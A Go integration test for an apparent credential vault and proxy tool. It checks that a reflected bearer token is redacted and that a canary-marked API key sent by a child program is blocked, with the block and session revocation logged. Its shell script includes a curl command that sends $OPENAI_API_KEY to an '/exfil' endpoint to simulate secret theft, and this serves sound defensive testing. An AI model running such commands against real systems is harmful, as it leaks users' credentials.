package cli_test

import (
	"encoding/json"
	"encoding/pem"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestRunScrubAndCanary drives the real binary: an upstream that reflects
// the Authorization header gets its echo scrubbed, and a program started
// with --canary that sends the canary anywhere is refused, its session
// revoked, and the request log says so.
func TestRunScrubAndCanary(t *testing.T) {
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("curl is not installed")
	}
	var mu sync.Mutex
	var exfil []string
	upstream := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/exfil" {
			b, _ := io.ReadAll(r.Body)
			mu.Lock()
			exfil = append(exfil, r.Header.Get("X-Key")+string(b))
			mu.Unlock()
			return
		}
		io.WriteString(w, "you sent: "+r.Header.Get("Authorization")+"\n")
	}))
	defer upstream.Close()
	caFile := filepath.Join(t.TempDir(), "upstream.pem")
	if err := os.WriteFile(caFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: upstream.Certificate().Raw}), 0o600); err != nil {
		t.Fatal(err)
	}
	s := startServerWith(t, newDataDir(t), []string{"--mitm-port=-1", "--allow-private-ranges", "--upstream-ca-file", caFile})
	o := newOperator(t, s.URL)
	host := strings.TrimPrefix(upstream.URL, "https://")
	for _, args := range [][]string{
		{"register", "--email", "owner@example.com", "--password-stdin"},
		{"vault", "create", "my-app"},
		{"vault", "creds", "set", "--vault=my-app", "UPSTREAM_TOKEN=-"},
		{"service", "set", "up", "--vault=my-app", "--host=" + host, "--auth=bearer", "--token=UPSTREAM_TOKEN"},
	} {
		stdin := map[string]string{"register": "password1\n", "vault": "upstream-secret-0123\n"}[args[0]]
		if _, stderr, code := o.run(nil, stdin, nil, args...); code != 0 {
			t.Fatalf("%v: exit %d\n%s", args, code, stderr)
		}
	}

	// The reflected credential comes back scrubbed.
	stdout, stderr, code := o.run(nil, "", nil, "run", "--vault=my-app", "--", curl, "-sS", upstream.URL+"/echo")
	if code != 0 || stdout != "you sent: Bearer [agent-vault:redacted:UPSTREAM_TOKEN]\n" {
		t.Fatalf("echo: exit %d, %q %s", code, stdout, stderr)
	}

	// The canary leaves for the upstream: refused; the next request of the
	// same program finds its session revoked.
	script := `curl -sS -H "X-Key: $OPENAI_API_KEY" ` + upstream.URL + `/exfil; ` +
		`curl -sS -o /dev/null -w "%{http_connect}" ` + upstream.URL + `/echo; echo; ` +
		`case "$OPENAI_API_KEY" in sk-proj-*) echo shaped;; esac`
	stdout, stderr, _ = o.run(nil, "", nil, "run", "--vault=my-app", "--canary", "OPENAI_API_KEY", "--", "sh", "-c", script)
	lines := strings.Split(stdout, "\n")
	if len(lines) < 3 || !strings.Contains(lines[0], `"error":"secret_egress_blocked"`) || lines[1] != "407" || lines[2] != "shaped" {
		t.Fatalf("canary run:\n%s\n%s", stdout, stderr)
	}
	mu.Lock()
	if len(exfil) != 0 {
		t.Fatalf("the upstream received %q", exfil)
	}
	mu.Unlock()
	if stdout, _, code := o.run(nil, "", nil, "vault", "canary", "list", "--vault=my-app"); code != 0 || !strings.Contains(stdout, "OPENAI_API_KEY") {
		t.Fatalf("canary list: %s", stdout)
	}

	// The request log shows the scrub and the block, by key name only.
	deadline := time.Now().Add(10 * time.Second)
	for {
		stdout, _, _ = o.run(nil, "", nil, "vault", "logs", "--vault=my-app", "--json")
		var logs struct {
			Logs []struct {
				Blocked  string
				Scrubbed []struct {
					Key   string
					Count int
				}
			}
		}
		json.Unmarshal([]byte(stdout), &logs)
		scrubbed, blocked := false, false
		for _, l := range logs.Logs {
			scrubbed = scrubbed || len(l.Scrubbed) == 1 && l.Scrubbed[0].Key == "UPSTREAM_TOKEN" && l.Scrubbed[0].Count == 1
			blocked = blocked || l.Blocked == "canary:OPENAI_API_KEY"
		}
		if scrubbed && blocked {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the log shows scrubbed=%v blocked=%v:\n%s", scrubbed, blocked, stdout)
		}
		time.Sleep(100 * time.Millisecond)
	}
	if strings.Contains(stdout, "upstream-secret-0123") {
		t.Fatal("the log holds the value")
	}
	human, _, _ := o.run(nil, "", nil, "vault", "logs", "--vault=my-app")
	if !strings.Contains(human, "scrubbed UPSTREAM_TOKEN") || !strings.Contains(human, "blocked canary:OPENAI_API_KEY") {
		t.Fatalf("vault logs:\n%s", human)
	}
	// The proxy's revocation is in the audit trail, by the server itself.
	trail, _, code := o.run(nil, "", nil, "audit", "list", "--operation", "revoke-session-on-block", "--json")
	if code != 0 || !strings.Contains(trail, `"actor_kind": "system"`) || !strings.Contains(trail, `"vault": "my-app"`) || !strings.Contains(trail, `"outcome": "ok"`) {
		t.Fatalf("audit list of the revocation (exit %d):\n%s", code, trail)
	}
}
